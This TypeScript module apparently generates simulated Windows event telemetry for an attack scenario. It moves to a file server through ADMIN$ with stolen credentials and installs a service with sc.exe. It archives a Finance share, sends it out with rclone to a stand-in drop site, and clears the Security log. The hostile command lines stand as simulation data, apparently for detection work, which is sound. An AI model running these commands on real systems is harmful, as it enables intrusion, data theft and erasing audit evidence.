// To the file server by a service: a file over ADMIN$, a service that starts it, a shell below services.exe, data out.
import type { World } from '../world.ts';
import { KINDS } from '../windows/event-kinds.ts';
import { PROGRAMS, unknownProgram } from '../windows/programs.ts';
import { subject } from '../windows/security.ts';
import { DROP_SITE } from './attacker.ts';
import { found } from './defender.ts';
import { ask, beaconFrom, dropOverAdminShare, logOnWithStolen, run, type Foothold } from './foothold.ts';

const SERVICE = 'WinHlpSvc';
const FILE = 'C:\\Windows\\WinHlpSvc.exe';

export function moveByService(world: World, foothold: Foothold, at: number, until: number): void {
  const { machine: first, elevated } = foothold;
  const { machine, booted } = world.fileServer;
  ask(
    first,
    at - 30_000,
    elevated,
    PROGRAMS.net,
    `=net use \\\\${machine.host.name}\\ADMIN$ /user:${machine.company.domain}\\adm.lindqvist`,
  );
  const logon = logOnWithStolen(machine, at, foothold);
  dropOverAdminShare(machine, at + 400, foothold, logon, 'WinHlpSvc.exe');
  ask(
    first,
    at + 5000,
    elevated,
    PROGRAMS.sc,
    `=sc.exe \\\\${machine.host.name} create ${SERVICE} binPath= ${FILE} start= demand`,
  );
  first.connect(elevated, at + 5100, { ip: machine.host.ip, port: 135, name: machine.host.fqdn });
  machine.emit(KINDS.serviceInstalled, at + 5600, {
    ServiceName: SERVICE,
    ImagePath: FILE,
    ServiceType: 'user mode service',
    StartType: 'demand start',
    AccountName: 'LocalSystem',
  });
  machine.emit(KINDS.serviceAudit, at + 5610, {
    ...subject(logon),
    ServiceName: SERVICE,
    ServiceFileName: FILE,
    ServiceType: '0x10',
    ServiceStartType: '3',
    ServiceAccount: 'LocalSystem',
  });
  machine.setRegistry(
    booted.services,
    at + 5620,
    `HKLM\\System\\CurrentControlSet\\Services\\${SERVICE}\\ImagePath`,
    FILE,
  );
  ask(first, at + 9000, elevated, PROGRAMS.sc, `=sc.exe \\\\${machine.host.name} start ${SERVICE}`);
  const program = unknownProgram(FILE, 'winhlpsvc.exe', 'Windows Help Service', '-');
  const service = machine.start({
    ts: at + 9400,
    parent: booted.services,
    program,
    commandLine: FILE,
    logon: machine.systemLogon,
    integrity: 'System',
  });
  machine.createPipe(service, at + 9600, '\\winhlp-4a1c');
  found(machine, at + 10_200, {
    threat: 'HackTool:Win32/RemoteAdmin.PSX',
    threatId: 2_147_730_002,
    severity: 'High',
    category: 'Tool',
    resources: [`file:_${FILE}`, `service:_${SERVICE}`],
    process: service,
  });
  beaconFrom(machine, service, at + 12_000, until);
  const shell = run(machine, at + 60_000, service, PROGRAMS.cmd, '=C:\\Windows\\system32\\cmd.exe');
  ask(machine, at + 64_000, shell, PROGRAMS.whoami, '=whoami');
  ask(machine, at + 71_000, shell, PROGRAMS.net, '=net share');
  const archive = 'C:\\Windows\\Temp\\wh.7z';
  const packer = run(
    machine,
    at + 12 * 60_000,
    shell,
    PROGRAMS.sevenZip,
    `a -mx1 -hpW1nterTale ${archive} D:\\Shares\\Departments\\Finance`,
  );
  machine.createFile(packer, at + 12 * 60_000 + 700, archive);
  machine.exit(packer, at + 14 * 60_000);
  const rclone = unknownProgram(
    'C:\\Windows\\Temp\\svcupd.exe',
    'rclone.exe',
    'Rsync for cloud storage',
    'https://rclone.org',
  );
  machine.createFile(service, at + 15 * 60_000, rclone.image);
  const upload = run(
    machine,
    at + 16 * 60_000,
    shell,
    rclone,
    `copy ${archive} box:nw --config C:\\Windows\\Temp\\r.conf --multi-thread-streams 4`,
  );
  machine.dnsQuery(upload, at + 16 * 60_000 + 400, DROP_SITE.name, DROP_SITE.ip);
  for (let i = 0; i < 4; i++) machine.connect(upload, at + 16 * 60_000 + 600 + i * 90, DROP_SITE);
  machine.exit(upload, at + 21 * 60_000);
  machine.deleteFile(shell, at + 22 * 60_000, archive);
  const clear = run(machine, at + 150 * 60_000, shell, PROGRAMS.wevtutil, '=wevtutil cl Security');
  machine.emit(KINDS.logCleared, at + 150 * 60_000 + 300, {
    SubjectUserSid: 'S-1-5-18',
    SubjectUserName: `${machine.host.name}$`,
    SubjectDomainName: machine.company.domain,
    SubjectLogonId: '0x3e7',
  });
  machine.exit(clear, at + 150 * 60_000 + 500);
}
